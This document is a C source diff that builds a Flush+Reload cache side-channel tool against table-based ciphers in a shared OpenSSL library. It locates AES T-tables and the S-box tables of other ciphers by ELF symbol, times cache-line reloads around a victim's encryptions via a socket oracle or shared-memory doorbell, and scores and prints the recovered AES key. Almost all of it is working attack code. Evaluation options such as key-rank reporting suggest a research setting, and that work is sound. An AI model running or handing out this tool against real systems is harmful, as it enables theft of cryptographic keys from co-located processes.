@@ -15,11 +15,26 @@
  * along with this program.  If not, see <http://www.gnu.org/licenses/>.
  */
 
+#include <elf.h>
 #include <fcntl.h>
+#include <limits.h>
+#include <math.h>
+#include <signal.h>
 #include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
 #include <stdlib.h>
+#include <string.h>
 #include <sys/mman.h>
 #include <unistd.h>
+#include <x86intrin.h>
+
+#include "doorbell.h"
+#include "keyrank.h"
+#include "oracle.h"
+#include "probetrace.h"
+#include "score.h"
+#include "threshold.h"
 
 #define MIN_CACHE_MISS_CYCLES (195)
 
@@ -30,6 +45,35 @@ typedef struct mapped_mem
   size_t size;
 } mapped_mem;
 
+/* Symbols of the lookup tables of a primitive in the bundled OpenSSL,
+   probed as a whole. They are static, so only an unstripped library
+   built without assembly has them. */
+typedef struct preset
+{
+  const char *name;
+  int aes;
+  const char *symbol[AES_NTABLE];
+} preset;
+
+static const preset presets[] = {
+  { "aes", 1, { "Te0", "Te1", "Te2", "Te3" } },
+  { "des", 0, { "DES_SPtrans" } },
+  { "cast", 0,
+    { "CAST_S_table0", "CAST_S_table1", "CAST_S_table2", "CAST_S_table3" } },
+  { "camellia", 0,
+    { "SBOX1_1110", "SBOX4_4404", "SBOX2_0222", "SBOX3_3033" } },
+  { "seed", 0, { "SS" } },
+  { "whirlpool", 0, { "Cx" } },
+};
+
+/* One probed cache line of the shared library. */
+typedef struct probe
+{
+  size_t offset;
+  volatile char *ptr;
+  uint64_t hits;
+} probe;
+
 mapped_mem *
 create_mapped_mem (const char *path)
 {
@@ -64,27 +108,700 @@ destroy_mapped_mem (mapped_mem *mem)
   free (mem);
 }
 
+/* Find SYMBOL in the symbol table of the ELF file in MEM, or else in
+   its dynamic symbol table, and return its file offset and size. */
+int
+find_symbol (const mapped_mem *mem, const char *symbol, size_t *offset,
+             size_t *size)
+{
+  const char *base = mem->ptr;
+  const Elf64_Ehdr *ehdr = mem->ptr;
+  if (mem->size < sizeof (*ehdr) || memcmp (ehdr->e_ident, ELFMAG, SELFMAG)
+      || ehdr->e_ident[EI_CLASS] != ELFCLASS64
+      || ehdr->e_shoff + ehdr->e_shnum * sizeof (Elf64_Shdr) > mem->size)
+    {
+      return -1;
+    }
+  const Elf64_Shdr *shdr = (const Elf64_Shdr *)(base + ehdr->e_shoff);
+
+  const Elf64_Word types[] = { SHT_SYMTAB, SHT_DYNSYM };
+  for (size_t t = 0; t < sizeof (types) / sizeof (*types); ++t)
+    {
+      for (size_t i = 0; i < ehdr->e_shnum; ++i)
+        {
+          if (shdr[i].sh_type != types[t] || shdr[i].sh_link >= ehdr->e_shnum
+              || shdr[i].sh_offset + shdr[i].sh_size > mem->size)
+            {
+              continue;
+            }
+          const Elf64_Shdr *strtab = &shdr[shdr[i].sh_link];
+          if (strtab->sh_offset + strtab->sh_size > mem->size)
+            {
+              continue;
+            }
+          const Elf64_Sym *sym = (const Elf64_Sym *)(base + shdr[i].sh_offset);
+          for (size_t j = 0; j < shdr[i].sh_size / sizeof (*sym); ++j)
+            {
+              if (sym[j].st_shndx == SHN_UNDEF || sym[j].st_shndx >= ehdr->e_shnum
+                  || sym[j].st_name >= strtab->sh_size
+                  || strncmp (base + strtab->sh_offset + sym[j].st_name, symbol,
+                              strtab->sh_size - sym[j].st_name))
+                {
+                  continue;
+                }
+              const Elf64_Shdr *section = &shdr[sym[j].st_shndx];
+              if (sym[j].st_value < section->sh_addr)
+                {
+                  continue;
+                }
+              *offset = sym[j].st_value - section->sh_addr + section->sh_offset;
+              *size = sym[j].st_size;
+              if (*offset > mem->size || *size > mem->size - *offset)
+                {
+                  continue;
+                }
+              return 0;
+            }
+        }
+    }
+  return -1;
+}
+
+/* Time a reload of PTR in cycles and flush it again for the next
+   round. */
+size_t
+time_flush_reload (volatile void *ptr)
+{
+  unsigned aux;
+  _mm_mfence ();
+  _mm_lfence ();
+  uint64_t begin = __rdtscp (&aux);
+  _mm_lfence ();
+  *(volatile char *)ptr;
+  uint64_t end = __rdtscp (&aux);
+  _mm_lfence ();
+  _mm_clflush ((void *)ptr);
+  return end - begin;
+}
+
+/* Parse the probe targets, each OFFSET or OFFSET+SIZE in bytes, into
+   one probe per cache line. A bare OFFSET covers MIN_SIZE bytes, and a
+   SIZE may not be smaller. OFFSET[I] and FIRST[I] receive the offset of
+   target I and the index of its first probe. Returns the number of
+   probes, or 0 when a target is malformed or outside the library. */
 size_t
-time_flush_reload (void *ptr)
+parse_probes (int ntarget, char *target[], size_t min_size,
+              const mapped_mem *mem, probe **probes, size_t offset_of[],
+              size_t first_of[])
+{
+  size_t nprobe = 0;
+  *probes = 0;
+  for (int i = 0; i < ntarget; ++i)
+    {
+      char *end;
+      size_t offset = strtoull (target[i], &end, 16);
+      size_t size = min_size;
+      if (*end == '+')
+        {
+          size = strtoull (end + 1, &end, 0);
+        }
+      if (end == target[i] || *end || size < min_size || offset >= mem->size
+          || size > mem->size - offset)
+        {
+          fprintf (stderr, "bad probe target: %s\n", target[i]);
+          return 0;
+        }
+
+      offset_of[i] = offset;
+      first_of[i] = nprobe;
+      size_t first = offset / CACHE_LINE_SIZE;
+      size_t last = (offset + size - 1) / CACHE_LINE_SIZE;
+      probe *grown
+          = realloc (*probes, (nprobe + last - first + 1) * sizeof (**probes));
+      if (!grown)
+        {
+          return 0;
+        }
+      *probes = grown;
+      for (size_t line = first; line <= last; ++line)
+        {
+          probe *p = &(*probes)[nprobe++];
+          p->offset = line * CACHE_LINE_SIZE;
+          p->ptr = (char *)mem->ptr + p->offset;
+          p->hits = 0;
+        }
+    }
+  return nprobe;
+}
+
+/* Reload every probe once, set LATENCY[P] to the reload time of probe
+   P and HIT[P] when it is below THRESHOLD[P]. The lines are visited in
+   a scrambled order so that the prefetcher does not pull in the next
+   one. */
+void
+reload_probes (probe *probes, size_t nprobe, const unsigned *threshold,
+               uint8_t *hit, uint16_t *latency)
+{
+  size_t stride = nprobe % 167 ? 167 : 1;
+  for (size_t i = 0; i < nprobe; ++i)
+    {
+      size_t j = (i * stride + 13) % nprobe;
+      uint64_t cycles = time_flush_reload (probes[j].ptr);
+      latency[j] = cycles < UINT16_MAX ? cycles : UINT16_MAX;
+      hit[j] = cycles < threshold[j];
+      probes[j].hits += hit[j];
+    }
+}
+
+void
+flush_probes (probe *probes, size_t nprobe)
+{
+  for (size_t i = 0; i < nprobe; ++i)
+    {
+      _mm_clflush ((void *)probes[i].ptr);
+    }
+  _mm_mfence ();
+}
+
+/* Let the victim behind BELL run its next encryption with the probes
+   flushed, and return once it is done. SEEN is the last request value
+   observed; an odd one is a request not acknowledged yet. Returns 1
+   with the plaintext and ciphertext for a complete encryption, 0 if the
+   victim resynchronised, and -1 once it closed. */
+int
+doorbell_sample (doorbell *bell, uint32_t *seen, probe *probes,
+                 size_t nprobe, uint8_t plain[16], uint8_t cipher[16])
+{
+  uint32_t request = *seen;
+  while (request != DOORBELL_CLOSED && !(request & 1))
+    {
+      request = bell_wait (&bell->request, request);
+    }
+  if (request == DOORBELL_CLOSED)
+    {
+      return -1;
+    }
+
+  memcpy (plain, bell->plain, 16);
+  flush_probes (probes, nprobe);
+  bell_ring (&bell->ack, request);
+
+  /* The victim may already have posted its next request, or closed,
+     by the time we look, but it cannot start the next encryption before
+     we acknowledge it. */
+  *seen = bell_wait (&bell->request, request);
+  memcpy (cipher, bell->cipher, 16);
+  return atomic_load (&bell->done) == request;
+}
+
+/* The doorbell being probed, detached from on the way out however we
+   leave, so that the victim does not wait for us forever. */
+static doorbell *attached;
+
+void
+detach (void)
+{
+  if (attached)
+    {
+      doorbell_detach (attached);
+    }
+}
+
+void
+detach_on_signal (int sig)
+{
+  detach ();
+  raise (sig);
+}
+
+void
+attach (doorbell *bell)
+{
+  attached = bell;
+  atexit (detach);
+  struct sigaction sa = { .sa_handler = detach_on_signal,
+                          .sa_flags = SA_RESETHAND };
+  const int signals[] = { SIGINT, SIGTERM, SIGHUP, SIGQUIT, SIGPIPE,
+                          SIGSEGV, SIGBUS,  SIGFPE, SIGILL,  SIGABRT };
+  for (size_t i = 0; i < sizeof (signals) / sizeof (*signals); ++i)
+    {
+      sigaction (signals[i], &sa, 0);
+    }
+}
+
+void
+report_thresholds (const threshold_model *model, const unsigned *threshold,
+                   size_t taken)
+{
+  unsigned lo = UINT_MAX, hi = 0;
+  for (size_t i = 0; i < model->nline; ++i)
+    {
+      lo = threshold[i] < lo ? threshold[i] : lo;
+      hi = threshold[i] > hi ? threshold[i] : hi;
+    }
+  double false_hit, false_miss;
+  threshold_confusion (model, &false_hit, &false_miss);
+  fprintf (stderr,
+           "%zu samples threshold %u to %u, misses taken as hits %.2g, "
+           "hits taken as misses %.2g\n",
+           taken, lo, hi, false_hit, false_miss);
+}
+
+void
+usage (const char *prog)
 {
+  fprintf (stderr,
+           "usage: %s [-a] [-n SAMPLES] [-s SOCKET | -d DOORBELL] LIB "
+           "OFFSET[+SIZE]...\n"
+           "       %s -p PRESET [-n SAMPLES] [-s SOCKET | -d DOORBELL] LIB\n"
+           "  -a           the targets are the AES T-tables Te0 to Te3, or\n"
+           "               a single table, each of at least 1024 bytes; score\n"
+           "               the first-round key bytes\n"
+           "  -p PRESET    probe the tables of aes (implies -a), des, cast,\n"
+           "               camellia, seed or whirlpool, found by symbol\n"
+           "  -n SAMPLES   number of samples (default 100000)\n"
+           "  -s SOCKET    drive the encryption oracle at SOCKET and probe\n"
+           "               around each of its encryptions\n"
+           "  -d DOORBELL  probe around each encryption of a victim run\n"
+           "               with the same shared-memory doorbell\n"
+           "  -t CYCLES    take reloads faster than CYCLES as hits\n"
+           "               (default %d)\n"
+           "  -A           adapt the threshold of every line to its\n"
+           "               latencies as they drift, starting from -t,\n"
+           "               and report the expected misclassification\n"
+           "               after every batch\n"
+           "  -B BATCH     samples in a batch (default 1000)\n"
+           "AES options:\n"
+           "  -l           score the last round key from the ciphertexts\n"
+           "               instead, and invert the key schedule\n"
+           "  -K KEY       the true key in hex; report the bounds of its\n"
+           "               rank after every batch\n"
+           "  -R BITS      stop once the rank is below 2^BITS\n"
+           "  -S FILE      write the key-byte scores to FILE\n"
+           "Recording:\n"
+           "  -o FILE      write every sample to the probe trace FILE,\n"
+           "               for replay\n"
+           "  -T           record the reload latencies in the trace too\n",
+           prog, prog, MIN_CACHE_MISS_CYCLES);
 }
 
 int
 main (int argc, char *argv[argc + 1])
 {
-  const char *lib_path = argv[1];
-  const size_t offset[10];
+  size_t nsample = 100000;
+  const char *socket_path = 0;
+  const char *doorbell_name = 0;
+  int aes = 0;
+  const preset *pre = 0;
+  int last = 0;
+  int known_key = 0;
+  uint8_t true_key[16];
+  double target_bits = -1;
+  size_t batch = 1000;
+  const char *score_path = 0;
+  const char *trace_path = 0;
+  int record_latency = 0;
+  unsigned initial_threshold = MIN_CACHE_MISS_CYCLES;
+  int adaptive = 0;
+
+  int opt;
+  while ((opt = getopt (argc, argv, "alp:n:s:d:t:AK:R:B:S:o:T")) != -1)
+    {
+      switch (opt)
+        {
+        case 'a':
+          aes = 1;
+          break;
+        case 'l':
+          aes = 1;
+          last = 1;
+          break;
+        case 'p':
+          for (size_t i = 0; i < sizeof (presets) / sizeof (*presets); ++i)
+            {
+              if (!strcmp (optarg, presets[i].name))
+                {
+                  pre = &presets[i];
+                }
+            }
+          if (!pre)
+            {
+              usage (argv[0]);
+              exit (EXIT_FAILURE);
+            }
+          aes |= pre->aes;
+          break;
+        case 'd':
+          doorbell_name = optarg;
+          break;
+        case 'n':
+          nsample = strtoull (optarg, 0, 0);
+          break;
+        case 't':
+          initial_threshold = strtoul (optarg, 0, 0);
+          break;
+        case 'A':
+          adaptive = 1;
+          break;
+        case 'K':
+          if (parse_key (optarg, true_key) < 0)
+            {
+              usage (argv[0]);
+              exit (EXIT_FAILURE);
+            }
+          known_key = 1;
+          break;
+        case 'R':
+          target_bits = strtod (optarg, 0);
+          break;
+        case 'B':
+          batch = strtoull (optarg, 0, 0);
+          break;
+        case 'S':
+          score_path = optarg;
+          break;
+        case 'o':
+          trace_path = optarg;
+          break;
+        case 'T':
+          record_latency = 1;
+          break;
+        case 's':
+          socket_path = optarg;
+          break;
+        default:
+          usage (argv[0]);
+          exit (EXIT_FAILURE);
+        }
+    }
+  int ntarget = argc - optind - 1;
+  if (argc - optind < 1 || (socket_path && doorbell_name)
+      || (pre ? ntarget != 0 : ntarget < 1) || !batch)
+    {
+      usage (argv[0]);
+      exit (EXIT_FAILURE);
+    }
+  const char *lib_path = argv[optind];
+  char **target = argv + optind + 1;
 
   mapped_mem *mem = create_mapped_mem (lib_path);
   if (!mem)
+    {
+      perror (lib_path);
+      exit (EXIT_FAILURE);
+    }
+
+  /* Turn the symbols of a preset into OFFSET+SIZE targets. */
+  char preset_target[AES_NTABLE][64];
+  char *preset_targets[AES_NTABLE];
+  for (size_t i = 0; pre && i < AES_NTABLE && pre->symbol[i]; ++i)
+    {
+      size_t offset, size;
+      if (find_symbol (mem, pre->symbol[i], &offset, &size) < 0 || !size)
+        {
+          fprintf (stderr,
+                   "%s: no symbol %s; the library is stripped or uses "
+                   "assembly, give the offsets instead\n",
+                   lib_path, pre->symbol[i]);
+          exit (EXIT_FAILURE);
+        }
+      snprintf (preset_target[i], sizeof (preset_target[i]), "%zx+%zu",
+                offset, size);
+      preset_targets[i] = preset_target[i];
+      target = preset_targets;
+      ntarget = i + 1;
+    }
+  if (known_key && last)
+    {
+      aes_last_round_key (true_key, true_key);
+    }
+  if (aes && ntarget != 1 && ntarget != AES_NTABLE)
+    {
+      usage (argv[0]);
+      exit (EXIT_FAILURE);
+    }
+
+  probe *probes;
+  size_t *offset = malloc (ntarget * sizeof (*offset));
+  size_t *first = malloc (ntarget * sizeof (*first));
+  if (!offset || !first)
+    {
+      exit (EXIT_FAILURE);
+    }
+  size_t nprobe = parse_probes (ntarget, target,
+                                aes ? AES_TABLE_SIZE : 1, mem, &probes,
+                                offset, first);
+  uint8_t *hit = malloc (nprobe);
+  uint16_t *latency = malloc (nprobe * sizeof (*latency));
+  unsigned *threshold = malloc (nprobe * sizeof (*threshold));
+  if (!nprobe || !hit || !latency || !threshold)
+    {
+      exit (EXIT_FAILURE);
+    }
+  for (size_t i = 0; i < nprobe; ++i)
+    {
+      threshold[i] = initial_threshold;
+    }
+  threshold_model model;
+  if (adaptive
+      && threshold_init (&model, nprobe, initial_threshold, THRESHOLD_DECAY)
+             < 0)
+    {
+      exit (EXIT_FAILURE);
+    }
+
+  aes_tables tables;
+  key_score *score = calloc (1, sizeof (*score));
+  key_logp *logp = malloc (sizeof (*logp));
+  if (!score || !logp)
+    {
+      exit (EXIT_FAILURE);
+    }
+  if (aes && aes_tables_init (&tables, ntarget, offset, first, nprobe) < 0)
     {
       exit (EXIT_FAILURE);
     }
 
-  for (size_t i = 0; i < 10; ++i)
+  int oracle = -1;
+  if (socket_path)
+    {
+      oracle = oracle_connect (socket_path);
+      if (oracle < 0)
+        {
+          perror (socket_path);
+          exit (EXIT_FAILURE);
+        }
+    }
+
+  doorbell *bell = 0;
+  uint32_t seen = 0;
+  if (doorbell_name)
+    {
+      bell = doorbell_open (doorbell_name);
+      if (!bell)
+        {
+          perror (doorbell_name);
+          exit (EXIT_FAILURE);
+        }
+      attach (bell);
+      seen = doorbell_attach (bell);
+    }
+
+  FILE *trace = 0;
+  probetrace_header header = { .magic = PROBETRACE_MAGIC,
+                               .version = PROBETRACE_VERSION,
+                               .threshold = initial_threshold,
+                               .nprobe = nprobe };
+  if (trace_path)
+    {
+      header.flags = (record_latency ? PROBETRACE_LATENCY : 0)
+                     | (oracle >= 0 || bell ? PROBETRACE_PAIR : 0);
+      header.ntable = aes ? ntarget : 0;
+      for (size_t t = 0; t < header.ntable; ++t)
+        {
+          header.table_offset[t] = offset[t];
+          header.table_first[t] = first[t];
+        }
+      probetrace_describe (&header);
+      snprintf (header.lib, sizeof (header.lib), "%s", lib_path);
+
+      uint64_t *probe_offset = malloc (nprobe * sizeof (*probe_offset));
+      trace = fopen (trace_path, "w");
+      if (!probe_offset || !trace)
+        {
+          perror (trace_path);
+          exit (EXIT_FAILURE);
+        }
+      for (size_t i = 0; i < nprobe; ++i)
+        {
+          probe_offset[i] = probes[i].offset;
+        }
+      header.start_tsc = __rdtsc ();
+      if (probetrace_write_header (trace, &header, probe_offset) < 0)
+        {
+          perror (trace_path);
+          exit (EXIT_FAILURE);
+        }
+      free (probe_offset);
+    }
+  uint64_t last_tsc = header.start_tsc;
+
+  reload_probes (probes, nprobe, threshold, hit, latency);
+  for (size_t i = 0; i < nprobe; ++i)
+    {
+      probes[i].hits = 0;
+    }
+
+  /* The last known encryption, for keysearch to check candidates on. */
+  uint8_t pair_plain[16], pair_cipher[16];
+  int paired = 0;
+
+  size_t taken = 0;
+  while (taken < nsample)
+    {
+      uint8_t plain[16], cipher[16];
+      int known = 0;
+      if (oracle >= 0)
+        {
+          oracle_reply reply;
+          if (oracle_query (oracle, ORACLE_RANDOM, 1, plain, cipher, &reply)
+              < 0)
+            {
+              fprintf (stderr, "oracle hung up after %zu samples\n", taken);
+              break;
+            }
+          known = 1;
+        }
+      else if (bell)
+        {
+          int r = doorbell_sample (bell, &seen, probes, nprobe, plain, cipher);
+          if (r < 0)
+            {
+              fprintf (stderr, "victim closed after %zu samples\n", taken);
+              break;
+            }
+          if (!r)
+            {
+              continue;
+            }
+          known = 1;
+        }
+      reload_probes (probes, nprobe, threshold, hit, latency);
+      ++taken;
+      if (adaptive)
+        {
+          threshold_add (&model, latency);
+          if (taken % THRESHOLD_PERIOD == 0)
+            {
+              threshold_update (&model, threshold);
+            }
+          if (taken % batch == 0)
+            {
+              report_thresholds (&model, threshold, taken);
+            }
+        }
+      if (trace)
+        {
+          uint64_t tsc = __rdtsc ();
+          if (probetrace_write_record (trace, &header, tsc - last_tsc, hit,
+                                       latency, plain, cipher)
+              < 0)
+            {
+              perror (trace_path);
+              exit (EXIT_FAILURE);
+            }
+          last_tsc = tsc;
+        }
+      if (known)
+        {
+          memcpy (pair_plain, plain, 16);
+          memcpy (pair_cipher, cipher, 16);
+          paired = 1;
+        }
+      if (aes && known)
+        {
+          if (last)
+            {
+              score_last_round (score, &tables, cipher, hit);
+            }
+          else
+            {
+              score_first_round (score, &tables, plain, hit);
+            }
+          if (known_key && score->nsample % batch == 0)
+            {
+              double lo, hi;
+              keyrank_logp (score, logp);
+              if (keyrank_estimate (logp, true_key, &lo, &hi) < 0)
+                {
+                  exit (EXIT_FAILURE);
+                }
+              fprintf (stderr, "%lu samples rank 2^%.1f to 2^%.1f\n",
+                       score->nsample, log2 (lo + 1), log2 (hi));
+              if (log2 (hi) <= target_bits)
+                {
+                  break;
+                }
+            }
+        }
+    }
+
+  for (size_t i = 0; i < nprobe; ++i)
     {
+      printf ("0x%zx %lu %zu\n", probes[i].offset, probes[i].hits, taken);
+    }
+  if (aes && score->nsample)
+    {
+      uint8_t key[16];
+      score_best (score, key);
+      if (last)
+        {
+          printf ("last");
+          for (size_t i = 0; i < 16; ++i)
+            {
+              printf (" %02x", key[i]);
+            }
+          printf ("\n");
+          aes_first_round_key (key, key);
+        }
+      printf ("key");
+      for (size_t i = 0; i < 16; ++i)
+        {
+          printf (" %02x", key[i]);
+        }
+      printf ("\n");
+    }
+  if (aes && paired)
+    {
+      printf ("pair ");
+      for (size_t i = 0; i < 16; ++i)
+        {
+          printf ("%02x", pair_plain[i]);
+        }
+      printf (" ");
+      for (size_t i = 0; i < 16; ++i)
+        {
+          printf ("%02x", pair_cipher[i]);
+        }
+      printf ("\n");
+    }
+  if (aes && score_path)
+    {
+      FILE *file = fopen (score_path, "w");
+      if (!file || score_write (file, score) < 0 || fclose (file))
+        {
+          perror (score_path);
+          exit (EXIT_FAILURE);
+        }
     }
 
+  if (trace && fclose (trace))
+    {
+      perror (trace_path);
+      exit (EXIT_FAILURE);
+    }
+  if (bell)
+    {
+      detach ();
+      attached = 0;
+      doorbell_close (bell);
+    }
+  if (oracle >= 0)
+    {
+      close (oracle);
+    }
+  free (logp);
+  free (score);
+  if (adaptive)
+    {
+      threshold_free (&model);
+    }
+  free (threshold);
+  free (latency);
+  free (hit);
+  free (first);
+  free (offset);
+  free (probes);
   destroy_mapped_mem (mem);
   exit (EXIT_SUCCESS);
 }